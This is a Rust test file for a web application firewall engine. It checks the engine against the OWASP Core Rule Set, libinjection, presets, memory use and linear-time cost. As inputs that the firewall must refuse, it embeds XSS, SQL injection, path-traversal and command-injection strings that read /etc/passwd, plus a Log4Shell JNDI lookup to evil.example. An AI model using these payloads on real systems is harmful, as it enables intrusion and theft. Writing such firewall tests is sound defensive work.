//! The engine against foreign truth: the Core Rule Set's regression tests, libinjection's verdicts, and rules of our own.

mod harness;

use harness::{corpus, crs, libinjection, serve};
use ringwall_testkit::{Counting, allocations};
use ringwall_waf::{Preset, Settings, Waf};
use std::path::{Path, PathBuf};

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// The corpus; a test without it says so and passes, unless `RINGWALL_REQUIRE=parts`.
fn corpus_or_skip(suite: &str, folder: &str) -> Option<PathBuf> {
    let all = corpus::folder(None);
    if all.join(folder).is_dir() {
        return Some(all);
    }
    assert!(std::env::var("RINGWALL_REQUIRE").as_deref() != Ok("parts"), "{suite}: no corpus in {}", all.display());
    println!("not run: {suite}: no corpus");
    None
}

#[test]
fn core_rule_set_regression_tests() {
    let Some(corpus) = corpus_or_skip("crs", "crs/rules") else { return };
    let waf = crs::engine(&corpus, crs::SETUP).expect("rules");
    let score = crs::run(&waf, &crs::cases(&corpus));
    assert!(score.failed.is_empty(), "{} passed, failed: {:#?}", score.passed, score.failed);
    assert!(score.passed > 4000, "only {} cases were found", score.passed);
    assert_eq!(score.foreseen.len(), crs::OVERRIDES.len());
}

#[test]
fn prefilter_changes_nothing() {
    let Some(corpus) = corpus_or_skip("prefilter", "crs/rules") else { return };
    let waf = crs::engine(&corpus, crs::SETUP).expect("rules");
    let cases = crs::cases(&corpus);
    let stages = cases.iter().flat_map(|case| case.stages.iter().map(|stage| (case.id.clone(), stage.request.clone())));
    // Every fourth case: the other three ask the same operators again.
    let requests: Vec<_> = stages.step_by(4).collect();
    assert_eq!(crs::prefilter_differences(&waf, &requests), Vec::<String>::new());
}

#[test]
fn libinjection_agrees_with_the_current_c() {
    let Some(corpus) = corpus_or_skip("libinjection", "libinjection/tests") else { return };
    let (passed, failed) = libinjection::run(&corpus).expect("verdicts");
    assert!(failed.is_empty(), "{passed} passed, failed: {failed:#?}");
    assert!(passed > 13_000, "only {passed} cases were found");
}

/// Paranoia level 1, blocking: what is refused is refused with 403 by the rule that sums the scores.
#[test]
fn blocking_at_paranoia_level_1() {
    let Some(corpus) = corpus_or_skip("blocking", "crs/rules") else { return };
    let waf = crs::engine(&corpus, "SecRuleEngine On\nSecResponseBodyAccess On\n").expect("rules");
    let profile = waf.profile(Settings::default()).expect("settings");
    let (mut refused, mut passed) = (0, 0);
    for case in crs::cases(&corpus) {
        for stage in &case.stages {
            let outcome = serve::serve(&waf, &profile, &stage.request);
            let report = &outcome.report;
            if matches!(outcome.status, Some(400) | None) {
                // The head was refused before its body was judged.
                continue;
            }
            let over = report.inbound >= 5 || report.outbound >= 4;
            let by_score = report.interruption.as_ref().is_some_and(|by| [949_110, 959_100].contains(&by.rule));
            assert_eq!(over, by_score, "{}: {} {} {:?}", case.id, report.inbound, report.outbound, report.interruption);
            if by_score {
                assert_eq!(outcome.status, Some(403), "{}", case.id);
                refused += 1;
            } else {
                passed += 1;
            }
        }
    }
    assert!(refused > 1000 && passed > 500, "{refused} refused, {passed} passed");
}

/// What a route says beside the rule files.
#[test]
fn settings_of_a_route() {
    let Some(corpus) = corpus_or_skip("settings", "crs/rules") else { return };
    let waf = crs::engine(&corpus, "SecRuleEngine On\n").expect("rules");
    let request = b"GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n";
    let outcome = |settings: Settings| serve::serve(&waf, &waf.profile(settings).expect("settings"), request);
    let plain = outcome(Settings::default());
    assert_eq!(plain.status, Some(403));
    assert!(
        plain
            .report
            .matched
            .iter()
            .any(|matched| matched.id == 941_100 && matched.variable == "ARGS:q" && matched.score == 5)
    );
    assert_eq!(outcome(Settings::default().inbound_threshold(1000)).status, Some(200));
    let off = Settings { engine: Some(ringwall_waf::Engine::Off), ..Settings::default() };
    assert!(outcome(off).report.matched.is_empty());
    let xss = "attack-xss".into();
    let tagged = Settings { exclusions: vec![ringwall_waf::Exclude::Tag(xss)], ..Settings::default() };
    assert!(outcome(tagged).report.matched.iter().all(|matched| !matched.tags.iter().any(|tag| tag == "attack-xss")));
    let target = ringwall_waf::Exclude::TargetOfTag("OWASP_CRS".into(), "ARGS:q".into());
    let report = outcome(Settings { exclusions: vec![target], ..Settings::default() }).report;
    assert!(report.matched.iter().all(|matched| matched.variable != "ARGS:q"), "{report:#?}");
    let more = outcome(Settings::default().paranoia(4)).report.matched.len();
    assert!(more > plain.report.matched.len());
}

/// The benchmark's requests: what is benign passes, attacks are refused; a prompt with code and a GraphQL query pass under
/// their presets, and attacks in other fields do not.
#[test]
fn verdicts_of_the_benchmark_and_the_presets() {
    let Some(corpus) = corpus_or_skip("benchmark", "../bench/waf") else { return };
    let load = |preset: Option<Preset>| {
        let own = format!("SecRuleEngine On\n{}", preset.map_or("", Preset::text));
        let waf = crs::engine(&corpus, &own).expect("rules");
        let profile = waf.profile(Settings::default()).expect("settings");
        move |request: &[u8]| serve::serve(&waf, &profile, request).status
    };
    let (plain, prompts, graphql) = (load(None), load(Some(Preset::Prompts)), load(Some(Preset::GraphQl)));
    for path in corpus::files(&corpus.join("../bench/waf")) {
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        let request = corpus::bytes(&path).expect("a request");
        let refused = name.contains("attack") || name.starts_with("05") || name.starts_with("10");
        assert_eq!(plain(&request), Some(if refused { 403 } else { 200 }), "{name}");
        if name.starts_with("05") {
            assert_eq!(prompts(&request), Some(200), "{name}");
        }
        if name.starts_with("10") {
            assert_eq!(graphql(&request), Some(200), "{name}");
        }
    }
    let post = |body: &str| {
        let head =
            "POST /api HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\nAccept: */*\r\nContent-Type: application/json";
        format!("{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
    };
    let attack = "<script>alert(document.cookie)</script>";
    assert_eq!(prompts(&post(&format!("{{\"user\":\"{attack}\"}}"))), Some(403));
    assert_eq!(prompts(&post(&format!("{{\"prompt\":\"{attack}\"}}"))), Some(200));
    assert_eq!(graphql(&post(&format!("{{\"query\":\"{{ a(b: \\\"{attack}\\\") }}\"}}"))), Some(403));
    assert_eq!(graphql(&post(&format!("{{\"query\":\"{{ a }}\",\"variables\":{{\"v\":\"{attack}\"}}}}"))), Some(403));
}

/// A benign GET takes no memory from the allocator once a transaction of its kind was judged, and holds little.
#[test]
fn a_benign_get_allocates_nothing() {
    let Some(corpus) = corpus_or_skip("allocations", "../bench/waf") else { return };
    let waf = crs::engine(&corpus, "SecRuleEngine On\nSecResponseBodyAccess On\n").expect("rules");
    let profile = waf.profile(Settings::default()).expect("settings");
    for name in ["01-get-browser.http", "02-get-api.http"] {
        let request = corpus::bytes(&corpus.join("../bench/waf").join(name)).expect("a request");
        let head = serve::head(&request);
        for _ in 0..3 {
            assert_eq!(serve::judge(&waf, &profile, &head), None);
        }
        assert_eq!(allocations::during(|| serve::judge(&waf, &profile, &head)).1, 0, "{name}");
        assert!(serve::held(&waf, &profile, &head) <= 64 << 10, "{name}");
    }
}

/// Ten mebibytes made to be slow cost at most ten times the work that harmless ones of the same length cost.
#[test]
fn work_is_linear_in_the_length() {
    const LENGTH: usize = 10 << 20;
    let Some(corpus) = corpus_or_skip("linear time", "crs/rules") else { return };
    let own = "SecRuleEngine DetectionOnly\nSecRequestBodyLimit 20000000\nSecRequestBodyNoFilesLimit 20000000\n";
    let waf = crs::engine(&corpus, own).expect("rules");
    let profile = waf.profile(Settings::default()).expect("settings");
    let spent = |seed: &str| {
        let value: String = seed.chars().cycle().take(LENGTH).collect();
        let head = "POST / HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=";
        let request = [head.as_bytes(), value.as_bytes()].concat();
        serve::judged(&waf, &profile, &serve::head(&request)).spent().0
    };
    let harmless = spent("Some words of prose that nobody would look at twice, one after the other. ");
    for seed in ["((((", "../", "<a ", "select ", "%2525", "{{"] {
        let cost = spent(seed);
        assert!(cost <= 10 * harmless, "{seed:?} costs {cost}, harmless text {harmless}");
    }
}

/// Debian's `modsecurity-crs`, the rule set of version 3, loads unchanged and refuses what it is made for.
#[test]
fn core_rule_set_3_loads_and_refuses() {
    let named = std::env::var_os("RINGWALL_CRS3").map(PathBuf::from);
    let root = named.unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/parts/crs3"));
    if !root.join("usr/share/modsecurity-crs/rules").is_dir() {
        assert!(std::env::var("RINGWALL_REQUIRE").as_deref() != Ok("parts"), "no rules in {}", root.display());
        println!("not run: the Core Rule Set 3: no rules in {}", root.display());
        return;
    }
    let own = "SecRuleEngine On\nSecResponseBodyAccess On\n";
    let (mut bundle, mut roots) = corpus::crs(&root.join("usr/share/modsecurity-crs"), own);
    // Its set-up scores and blocks by itself when it is told so; as installed it denies with the first match.
    let setup = corpus::bytes(&root.join("etc/modsecurity/crs/crs-setup.conf")).expect("the set-up");
    bundle.add("crs-setup.conf", setup);
    roots.insert(0, "crs-setup.conf".to_owned());
    let roots: Vec<&str> = roots.iter().map(String::as_str).collect();
    let waf = Waf::load(&bundle, &roots).unwrap_or_else(|errors| panic!("{}", errors[0]));
    assert!(waf.signatures().iter().any(|signature| signature.contains("3.3.4")), "{:?}", waf.signatures());
    let profile = waf.profile(Settings::default()).expect("settings");
    let status = |target: &str| {
        let request =
            format!("GET {target} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n");
        serve::serve(&waf, &profile, request.as_bytes()).status
    };
    assert_eq!(status("/catalog?color=dark+blue&size=42"), Some(200));
    for attack in [
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-",
        "/?file=../../../../etc/passwd",
        "/?c=;cat%20/etc/passwd",
        "/?u=$%7Bjndi:ldap://evil.example/a%7D",
    ] {
        assert_eq!(status(attack), Some(403), "{attack}");
    }
}

/// Each rule over response bodies matches a body made from its own pattern: also those that no regression test asks for.
#[test]
fn every_response_rule_matches_its_own_pattern() {
    let Some(corpus) = corpus_or_skip("response rules", "crs/rules") else { return };
    let waf = crs::engine(&corpus, crs::SETUP).expect("rules");
    let profile = waf.profile(Settings::default()).expect("settings");
    let (mut asked, mut missed) = (0, Vec::new());
    for path in corpus::files(&corpus.join("crs/rules")) {
        let text = String::from_utf8(corpus::bytes(&path).expect("a rule file")).unwrap_or_default();
        for rule in text.split("\nSecRule RESPONSE_BODY \"@rx ").skip(1) {
            let Some((pattern, rest)) = rule.split_once("\" \\\n") else { continue };
            let id: String =
                rest.trim_start().trim_start_matches("\"id:").chars().take_while(char::is_ascii_digit).collect();
            let config = regex_automata::util::syntax::Config::new().unicode(false).utf8(false);
            let Ok(hir) = regex_automata::util::syntax::parse_with(&pattern.replace("\\\"", "\""), &config) else {
                continue;
            };
            let mut body = Vec::new();
            sample(&hir, &mut body);
            // Rules over messages of databases are asked only when one of a list of messages is there.
            body.extend(b"\nYou have an error in your SQL syntax; ORA-00933 JET Database Engine");
            let Ok(body) = String::from_utf8(body) else { continue };
            let json =
                serde_json::json!({"status": 200, "headers": {"Content-Type": "text/html"}, "body": body}).to_string();
            let head = "POST /reflect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json";
            let request = format!("{head}\r\nContent-Length: {}\r\n\r\n{json}", json.len());
            asked += 1;
            let report = serve::serve(&waf, &profile, request.as_bytes()).report;
            if !report.matched.iter().any(|matched| matched.id.to_string() == id) {
                missed.push((id, body));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(asked >= 45, "only {asked} rules were found");
}

/// Rules that no regression test asks for, each with a request made from what its rule file says of it.
#[test]
fn rules_without_a_regression_test_do_what_they_say() {
    let Some(corpus) = corpus_or_skip("rules without a test", "crs/rules") else { return };
    let waf = crs::engine(&corpus, crs::SETUP).expect("rules");
    let profile = waf.profile(Settings::default()).expect("settings");
    let matched = |raw: &str| -> Vec<u64> {
        let report = serve::serve(&waf, &profile, raw.as_bytes()).report;
        report.matched.iter().map(|matched| matched.id).collect()
    };
    let get = |target: &str, fields: &str| format!("GET {target} HTTP/1.1\r\nAccept: */*\r\n{fields}\r\n");
    let post = |target: &str, media: &str, body: &str| {
        let head = format!("POST {target} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\nContent-Type: {media}");
        format!("{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
    };
    let answered = |status: u16, body: &str| {
        let json = serde_json::json!({"status": status, "headers": {"Content-Type": "text/html"}, "body": body});
        post("/reflect", "application/json", &json.to_string())
    };
    let file = |name: &str, length: usize| {
        let head = format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{name}\"\r\n");
        format!("{head}Content-Type: text/plain\r\n\r\n{}\r\n", "a".repeat(length))
    };
    let part = |media: &str| {
        let head = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n";
        format!("{head}Content-Type: {media}\r\n\r\nb\r\n--x--\r\n")
    };
    let parts = "multipart/form-data; boundary=x";
    let host = "Host: a.example\r\nUser-Agent: x\r\n";
    let two_files = format!("{}{}--x--\r\n", file("a", 40_000), file("b", 40_000));
    let found: [(u64, String); 14] = [
        (920_280, get("/", "User-Agent: x\r\n")),
        (920_290, get("/", "Host:\r\nUser-Agent: x\r\n")),
        (920_410, post("/", parts, &two_files)),
        (920_540, post("/", "application/x-www-form-urlencoded", "a=%5Cu0041")),
        (920_610, get("/a#b", host)),
        (921_180, get("/?a=1&a=2", host)),
        (922_110, post("/", parts, &part("text/plain; charset=utf-7"))),
        (932_231, get("/?a=%3B.%20b", host)),
        (950_100, answered(503, "busy")),
        (953_100, answered(200, "has not been properly started, can't compile file")),
        (954_130, answered(500, "Server Error in '/' Application")),
        (955_300, answered(200, "<title> punk holic shell </title>")),
        (955_350, answered(200, "<h1 style=\"margin-bottom: 0\">webadmin.php</h1>")),
        (951_220, answered(200, "Unclosed quotation mark after the character string 'a'")),
    ];
    let missed: Vec<_> = found.iter().filter(|(id, raw)| !matched(raw).contains(id)).map(|(id, _)| id).collect();
    assert!(missed.is_empty(), "{missed:?}");
    let quiet: [(u64, String); 5] = [
        // 905110 and 905100: calls of the web server to itself.
        (920_280, get("/", "User-Agent: Apache (internal dummy connection)\r\n")),
        (920_280, "GET /\r\n\r\n".to_owned()),
        // 920539: JSON has such escapes of its own.
        (920_540, post("/", "application/json", "{\"a\":\"\\\\u0041\"}")),
        (922_110, post("/", parts, &part("text/plain; charset=utf-8"))),
        // 951100: nothing of a database is in there.
        (951_220, answered(200, "after the character string")),
    ];
    let wrong: Vec<_> = quiet.iter().filter(|(id, raw)| matched(raw).contains(id)).map(|(id, _)| id).collect();
    assert!(wrong.is_empty(), "{wrong:?}");
}

/// A shortest text that a pattern matches, of each choice the first.
fn sample(hir: &regex_syntax::hir::Hir, out: &mut Vec<u8>) {
    use regex_syntax::hir::{Class, HirKind};
    match hir.kind() {
        HirKind::Empty | HirKind::Look(_) => {}
        HirKind::Literal(literal) => out.extend_from_slice(&literal.0),
        HirKind::Class(Class::Bytes(class)) => {
            let bytes = || class.iter().flat_map(|range| range.start()..=range.end());
            out.extend(bytes().find(u8::is_ascii_graphic).or_else(|| bytes().next()));
        }
        HirKind::Class(Class::Unicode(_)) => {}
        HirKind::Repetition(repetition) => (0..repetition.min).for_each(|_| sample(&repetition.sub, out)),
        HirKind::Capture(capture) => sample(&capture.sub, out),
        HirKind::Concat(parts) => parts.iter().for_each(|part| sample(part, out)),
        HirKind::Alternation(branches) => branches.iter().take(1).for_each(|branch| sample(branch, out)),
    }
}
